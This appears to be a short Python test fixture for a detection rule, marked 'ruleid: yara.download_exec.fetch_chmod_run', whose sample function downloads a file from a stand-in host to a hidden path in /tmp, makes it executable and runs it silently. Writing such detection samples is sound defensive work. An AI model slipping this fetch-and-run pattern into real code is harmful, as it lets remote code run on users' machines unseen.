import os
import subprocess
import urllib.request


def start_helper():
    path = "/tmp/.helper"
    # ruleid: yara.download_exec.fetch_chmod_run
    urllib.request.urlretrieve("https://example.com/helper", path)
    os.chmod(path, 0o755)
    subprocess.Popen([path, "--quiet"], stdout=subprocess.DEVNULL)
